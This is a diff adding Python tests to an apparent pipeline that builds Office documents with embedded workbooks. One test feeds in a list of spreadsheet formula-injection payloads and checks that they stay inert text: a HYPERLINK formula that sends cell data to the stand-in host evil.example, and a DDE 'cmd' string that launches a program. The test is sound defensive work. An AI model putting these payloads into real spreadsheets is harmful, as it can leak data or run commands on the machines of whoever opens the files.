@@ -368,3 +368,60 @@ def test_a_named_pipe_given_as_a_deal_fails_without_waiting_for_data(tmp_path):
         [o.status for o in summary.outcomes] == ["failed", "built"]
     failed = next(o for o in summary.outcomes if o.status == "failed")
     assert failed.errors == (f"{pipe}: not a regular file; give the path of one deal file (.yaml)",)
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)",
+           "http://evil.example/", "{=1+1}"]
+
+
+def _workbooks(document: Path):
+    """Every workbook embedded in an Office file, as a zip."""
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(document) as package:
+        for name in package.namelist():
+            if name.endswith(".xlsx"):
+                yield name, zipfile.ZipFile(io.BytesIO(package.read(name)))
+
+
+def test_names_that_look_like_formulas_stay_text_in_every_embedded_workbook(tmp_path):
+    from lxml import etree
+
+    text = XYZ.read_text(encoding="utf-8")
+    data = __import__("yaml").safe_load(text)
+    for company, name in zip(data["competitors"], HOSTILE):
+        company["name"] = name
+    data["key_buying_factors"][0]["name"] = "\t=1+1"
+    data["relationship_capabilities"][0]["name"] = "=2+2"
+    deal = tmp_path / "hostile.yaml"
+    deal.write_text(__import__("yaml").safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    out = tmp_path / "out"
+    summary = build_all([str(deal)], Options(out_dir=out))
+    assert summary.ok, summary.outcomes[0].errors
+    expected = {c["name"] for c in data["competitors"]}
+    seen, workbooks = set(), 0
+    for document in sorted((out / "xyz-atm-network").glob("*.[pd][po][tc]x")):
+        for name, workbook in _workbooks(document):
+            workbooks += 1
+            members = workbook.namelist()
+            assert not any("_rels/sheet" in m for m in members), (document.name, name)  # no hyperlinks
+            for member in (m for m in members if m.startswith("xl/worksheets/sheet")):
+                sheet = etree.fromstring(workbook.read(member))
+                assert sheet.findall(".//{*}f") == [], (document.name, name)  # no formula anywhere
+            strings = etree.fromstring(workbook.read("xl/sharedStrings.xml"))
+            seen |= {"".join(si.itertext()) for si in strings.findall("{*}si")}
+    assert workbooks >= 4  # the deck's charts and the briefs' charts
+    assert expected <= seen
+    assert "=2+2" in seen
+
+
+def test_a_drafted_statement_is_a_warning_naming_positioning_statement(tmp_path):
+    from pipeline.build import analyse_file, warning_lines
+    source = Path(__file__).resolve().parent.parent / "inputs" / "xyz-atm-network.yaml"
+    analysis, loaded = analyse_file(str(source))
+    lines = [line for line in warning_lines(analysis, loaded) if "positioning_statement" in line]
+    assert len(lines) == 1
+    where, _, said = lines[0].partition(": warning: ")
+    assert where.startswith(f"{source}:") and where.rsplit(":", 1)[1].isdigit()
+    assert said.startswith("positioning_statement: not given")
